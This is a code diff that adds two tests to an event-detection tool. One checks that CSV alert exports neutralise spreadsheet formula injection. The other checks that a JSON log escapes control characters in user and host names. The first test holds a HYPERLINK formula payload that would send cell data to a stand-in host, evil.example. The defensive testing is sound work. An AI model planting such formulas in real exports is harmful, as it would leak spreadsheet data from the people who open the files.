@@ -175,3 +175,43 @@ def test_on_a_real_terminal_colour_is_on_and_event_strings_still_escaped(
             rows = [line for line in plain.split("\n") if line and not line.startswith("(")]
             assert len(rows) >= 2, rows
             assert max(len(line) for line in rows) <= 120, rows
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_shown_as_text(tmp_path: Path) -> None:
+    """A user named ``=HYPERLINK(...)`` (any local user picks the name of their account on a
+    host they own): in ``--format csv`` every such cell starts with ``'``, numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    lines = [doc(b * 15 + 1, "root") for b in range(15 * 96)]
+    lines.append(doc(15 * 96 * 15 + 7, formula, "@host", ["ss", "+tan", "-p"]))
+    events = tmp_path / "events.ndjson"
+    events.write_text("\n".join(lines) + "\n")
+    db = tmp_path / "rb.db"
+    assert run("detect", "--store", str(db), str(events)).returncode == 0
+    proc = run("alerts", "list", "--store", str(db), "--format", "csv")
+    assert proc.returncode == 0, proc.stderr
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
+    (row,) = [r for r in rows if "HYPERLINK" in r["user"]]
+    assert row["user"] == "'" + formula
+    assert row["host"] == "'@host"
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
+    scores = [r[k] for r in rows for k in r if k == "score"]
+    assert scores
+    assert all(float(s) > 0 for s in scores)  # numbers are not prefixed
+
+
+def test_the_serve_log_writes_no_raw_control_character() -> None:
+    import io
+
+    from rarebird.serve.log import JsonLog
+
+    out = io.BytesIO()
+    JsonLog(out)("warning", "late_events", user=EVIL_USER, host=EVIL_HOST)
+    line = out.getvalue().decode()
+    assert raw_in(line) == []
+    for escaped in ("\\u009b31m", "\\u202e", "\\u0085"):
+        assert escaped in line
+    parsed = json.loads(line)
+    assert (parsed["user"], parsed["host"]) == (EVIL_USER, EVIL_HOST)
